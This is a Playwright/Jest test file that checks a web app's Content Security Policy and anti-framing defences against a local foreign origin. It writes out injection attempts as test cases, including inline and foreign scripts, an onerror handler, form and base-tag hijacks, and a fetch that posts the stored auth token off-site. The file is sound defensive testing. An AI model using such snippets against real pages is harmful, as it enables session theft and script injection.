/// <reference lib="dom" />
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Page } from 'playwright-core';
import type { SignedUp } from '../support/api.js';
import { startVisitedApi, type VisitedApi, visit } from '../support/browser.js';

/** Another origin that lets everybody in: what is refused is refused by the product's own policy. */
let elsewhere: Server;
let elsewhereUrl: string;
/** Paths that were asked for there. */
const reached: string[] = [];
let api: VisitedApi;
let ann: SignedUp;
beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.setHeader('Access-Control-Allow-Origin', '*').setHeader('Content-Type', 'text/html');
    response.end(`<iframe src="${api.url}/login/"></iframe>`);
  });
  elsewhere.listen(0, '127.0.0.1');
  await once(elsewhere, 'listening');
  elsewhereUrl = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  api = await startVisitedApi();
  ann = await api.register();
});
afterAll(async () => {
  await api?.close();
  elsewhere.close();
});

/** Which directives a page that runs this refuses. */
async function violationsOf(page: Page, attempt: (foreign: string) => void): Promise<string[]> {
  await page.evaluate(() => {
    const refused: string[] = [];
    Object.assign(window, { refused });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective));
  });
  await page.evaluate(attempt, elsewhereUrl);
  await page.waitForFunction(() => (window as unknown as { refused: string[] }).refused.length > 0);
  return page.evaluate(() => (window as unknown as { refused: string[] }).refused);
}

describe('What got into a page', () => {
  it.each<[string, string, (foreign: string) => void]>([
    [
      'script-src-elem',
      'a script in the page',
      () => {
        const script = document.createElement('script');
        script.textContent = 'window.injected = true';
        document.body.append(script);
      },
    ],
    [
      'script-src-elem',
      'a script from elsewhere',
      (foreign) => {
        const script = document.createElement('script');
        script.src = `${foreign}/script.js`;
        document.body.append(script);
      },
    ],
    [
      'script-src-attr',
      'a handler in the markup',
      () => {
        const image = document.createElement('img');
        image.setAttribute('onerror', 'window.injected = true');
        image.src = '/nothing.png';
        document.body.append(image);
      },
    ],
    [
      'connect-src',
      'a call to elsewhere',
      (foreign) =>
        void fetch(`${foreign}/call`, { method: 'POST', body: localStorage['plumbline.token'] as string }).catch(
          () => undefined,
        ),
    ],
    [
      'img-src',
      'a picture from elsewhere',
      (foreign) => {
        new Image().src = `${foreign}/picture.png`;
      },
    ],
    [
      'frame-src',
      'a frame',
      (foreign) => {
        const frame = document.createElement('iframe');
        frame.src = `${foreign}/frame`;
        document.body.append(frame);
      },
    ],
    [
      'form-action',
      'a form that is sent elsewhere',
      (foreign) => {
        const form = document.createElement('form');
        form.action = `${foreign}/form`;
        form.method = 'post';
        document.body.append(form);
        form.submit();
      },
    ],
    [
      'base-uri',
      'another base of all links',
      (foreign) => {
        const base = document.createElement('base');
        base.href = foreign;
        document.head.append(base);
      },
    ],
  ])('is stopped by %s: %s', async (directive, _what, attempt) => {
    const { page, context } = await api.visit(undefined, ann);
    await page.goto('/profile/');
    await page.getByRole('heading', { level: 1 }).waitFor();
    expect(await violationsOf(page, attempt)).toEqual([directive]);
    expect(await page.evaluate(() => 'injected' in window)).toBe(false);
    expect(reached).toEqual([]);
    await context.close();
  });

  it('cannot turn texts into code', async () => {
    const { page, context } = await api.visit();
    await page.goto('/login/');
    await page.evaluate(() => void window.setTimeout('window.injected = true' as unknown as () => void, 0));
    // The one that comes after it has run by then.
    await page.evaluate(() => new Promise((resolve) => window.setTimeout(resolve, 0)));
    expect(await page.evaluate(() => 'injected' in window)).toBe(false);
    await context.close();
  });
});

it('No other page can frame the product', async () => {
  const { page, context } = await visit(api.browser, elsewhereUrl);
  await page.goto('/');
  const frame = page.frames().find((each) => each !== page.mainFrame());
  await frame?.waitForLoadState();
  expect(await frame?.evaluate(() => document.body.innerText.includes('Log in'))).not.toBe(true);
  expect(frame?.url()).not.toBe(`${api.url}/login/`);
  await context.close();
});
